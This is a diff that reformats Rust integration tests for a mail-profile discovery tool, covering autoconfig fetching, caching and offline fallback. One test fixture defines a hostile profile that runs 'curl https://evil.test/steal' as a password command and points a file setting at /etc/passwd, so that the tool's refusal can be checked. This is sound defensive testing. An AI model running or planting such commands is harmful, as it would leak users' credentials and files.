@@ -104,8 +104,19 @@ fn found_at_the_autoconfig_host_saved_and_used_when_the_network_is_gone() {
     let home = tempfile::tempdir().expect("tmp");
     let server = web(Some(profile_text("Autoconfig University", "")), None);
     let dns = zone();
-    let out = find(home.path(), &dns.addr(), server.port, &["--ca-file", &ca()], true);
-    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    let out = find(
+        home.path(),
+        &dns.addr(),
+        server.port,
+        &["--ca-file", &ca()],
+        true,
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let report = json(&out);
     let url = format!(
         "https://autoconfig.example-univ.test:{}/ikou/profile.toml",
@@ -115,7 +126,10 @@ fn found_at_the_autoconfig_host_saved_and_used_when_the_network_is_gone() {
     assert_eq!(report["found"]["origin"]["url"], url.as_str());
     assert_eq!(report["attempts"][0]["outcome"], "used");
     let saved = std::fs::read_to_string(cached(home.path())).expect("the profile is saved");
-    assert!(saved.starts_with(&format!("# ikou-origin: {url}\n")), "{saved}");
+    assert!(
+        saved.starts_with(&format!("# ikou-origin: {url}\n")),
+        "{saved}"
+    );
     assert!(saved.contains("Autoconfig University"));
     assert_eq!(
         report["found"]["cached"],
@@ -123,16 +137,30 @@ fn found_at_the_autoconfig_host_saved_and_used_when_the_network_is_gone() {
     );
 
     // The text for people names the place it came from.
-    let out = find(home.path(), &dns.addr(), server.port, &["--ca-file", &ca()], false);
+    let out = find(
+        home.path(),
+        &dns.addr(),
+        server.port,
+        &["--ca-file", &ca()],
+        false,
+    );
     let text = String::from_utf8_lossy(&out.stdout);
     assert!(
-        text.contains(&format!("Profile: Autoconfig University — fetched from {url} (checked)")),
+        text.contains(&format!(
+            "Profile: Autoconfig University — fetched from {url} (checked)"
+        )),
         "{text}"
     );
 
     // A DNS server that never answers: the network is gone, the saved copy is used.
     let (_silent, silent) = silent_udp();
-    let out = find(home.path(), &silent.to_string(), server.port, &["--ca-file", &ca()], true);
+    let out = find(
+        home.path(),
+        &silent.to_string(),
+        server.port,
+        &["--ca-file", &ca()],
+        true,
+    );
     let report = json(&out);
     assert_eq!(out.status.code(), Some(0), "{report:#}");
     assert_eq!(report["found"]["origin"]["kind"], "cache", "{report:#}");
@@ -142,7 +170,9 @@ fn found_at_the_autoconfig_host_saved_and_used_when_the_network_is_gone() {
             .as_array()
             .expect("attempts")
             .iter()
-            .filter(|a| a["place"].as_str().is_some_and(|p| p.starts_with("https://")))
+            .filter(|a| a["place"]
+                .as_str()
+                .is_some_and(|p| p.starts_with("https://")))
             .all(|a| a["outcome"] == "unreachable"),
         "{report:#}"
     );
@@ -162,14 +192,20 @@ fn no_network_and_no_copy_says_so_and_lists_the_local_files() {
     let (_silent, silent) = silent_udp();
     let started = std::time::Instant::now();
     let out = find(home.path(), &silent.to_string(), 443, &[], false);
-    assert!(started.elapsed() < Duration::from_secs(20), "bounded in time");
+    assert!(
+        started.elapsed() < Duration::from_secs(20),
+        "bounded in time"
+    );
     assert_eq!(out.status.code(), Some(2));
     let text = String::from_utf8_lossy(&out.stdout);
     assert!(
         text.contains("No network: the profile for example-univ.test cannot be fetched"),
         "{text}"
     );
-    assert!(text.contains(&profiles.join("other.toml").display().to_string()), "{text}");
+    assert!(
+        text.contains(&profiles.join("other.toml").display().to_string()),
+        "{text}"
+    );
     let report = json(&find(home.path(), &silent.to_string(), 443, &[], true));
     assert!(report["found"].is_null());
     assert_eq!(report["local"].as_array().map(Vec::len), Some(1));
@@ -189,10 +225,19 @@ fn found_at_well_known_when_the_autoconfig_host_has_none() {
     let home = tempfile::tempdir().expect("tmp");
     let server = web(None, Some(profile_text("Well-known University", "")));
     let dns = zone();
-    let report = json(&find(home.path(), &dns.addr(), server.port, &["--ca-file", &ca()], true));
+    let report = json(&find(
+        home.path(),
+        &dns.addr(),
+        server.port,
+        &["--ca-file", &ca()],
+        true,
+    ));
     assert_eq!(report["attempts"][0]["outcome"], "not-found");
     assert_eq!(report["attempts"][0]["status"], 404);
-    assert_eq!(report["found"]["origin"]["kind"], "well-known", "{report:#}");
+    assert_eq!(
+        report["found"]["origin"]["kind"], "well-known",
+        "{report:#}"
+    );
     assert_eq!(
         report["found"]["origin"]["url"],
         format!(
@@ -210,11 +255,20 @@ fn a_fetched_profile_that_runs_commands_or_is_invalid_is_refused() {
         "Evil",
         "password_command = \"curl https://evil.test/steal\"\nca_file = \"/etc/passwd\"",
     );
-    let invalid = profile_text("Broken", "").replace("port = 993, security = \"tls\" }\n\n[new]", "port = 0, security = \"tls\" }\n\n[new]");
+    let invalid = profile_text("Broken", "").replace(
+        "port = 993, security = \"tls\" }\n\n[new]",
+        "port = 0, security = \"tls\" }\n\n[new]",
+    );
     assert!(invalid.contains("port = 0"));
     let server = web(Some(commands), Some(invalid));
     let dns = zone();
-    let out = find(home.path(), &dns.addr(), server.port, &["--ca-file", &ca()], true);
+    let out = find(
+        home.path(),
+        &dns.addr(),
+        server.port,
+        &["--ca-file", &ca()],
+        true,
+    );
     assert_eq!(out.status.code(), Some(2));
     let report = json(&out);
     assert!(report["found"].is_null(), "{report:#}");
@@ -230,14 +284,26 @@ fn a_fetched_profile_that_runs_commands_or_is_invalid_is_refused() {
     assert_eq!(keys(0), ["old.password_command", "old.ca_file"]);
     assert_eq!(report["attempts"][1]["outcome"], "refused");
     assert_eq!(keys(1), ["old.imap.port"]);
-    assert!(!cached(home.path()).exists(), "a refused profile is not saved");
-    let out = find(home.path(), &dns.addr(), server.port, &["--ca-file", &ca()], false);
+    assert!(
+        !cached(home.path()).exists(),
+        "a refused profile is not saved"
+    );
+    let out = find(
+        home.path(),
+        &dns.addr(),
+        server.port,
+        &["--ca-file", &ca()],
+        false,
+    );
     let text = String::from_utf8_lossy(&out.stdout);
     assert!(
         text.contains("may not run commands on your computer"),
         "{text}"
     );
-    assert!(text.contains("may not read files on your computer"), "{text}");
+    assert!(
+        text.contains("may not read files on your computer"),
+        "{text}"
+    );
     assert!(text.contains("publishes no ikou profile"), "{text}");
 }
 
@@ -273,7 +339,10 @@ fn the_built_in_profile_wins_over_the_network() {
         embedded: embedded.map(|text| ("univ.toml".to_string(), text)),
     };
     // Built in by the IT centre, with a password command (allowed there): used, no request.
-    let built_in = profile_text("Built-in University", "password_command = \"pass show mail\"");
+    let built_in = profile_text(
+        "Built-in University",
+        "password_command = \"pass show mail\"",
+    );
     let report = runtime
         .block_on(find(ADDRESS, &options(Some(built_in))))
         .expect("find");
@@ -285,7 +354,8 @@ fn the_built_in_profile_wins_over_the_network() {
     );
     assert_eq!(report.attempts.len(), 1, "the network was not asked");
     // Built in for another domain: not used, the web server's profile is.
-    let other = profile_text("Other", "").replace("example-univ.test\"\n[old]", "other-univ.test\"\n[old]");
+    let other =
+        profile_text("Other", "").replace("example-univ.test\"\n[old]", "other-univ.test\"\n[old]");
     let report = runtime
         .block_on(find(ADDRESS, &options(Some(other))))
         .expect("find");
@@ -298,7 +368,9 @@ fn the_built_in_profile_wins_over_the_network() {
     let found = report.found.expect("found");
     assert_eq!(found.profile.organisation.name, "Web University");
     // Without one: the web server's.
-    let report = runtime.block_on(find(ADDRESS, &options(None))).expect("find");
+    let report = runtime
+        .block_on(find(ADDRESS, &options(None)))
+        .expect("find");
     assert_eq!(
         report.found.expect("found").profile.organisation.name,
         "Web University"
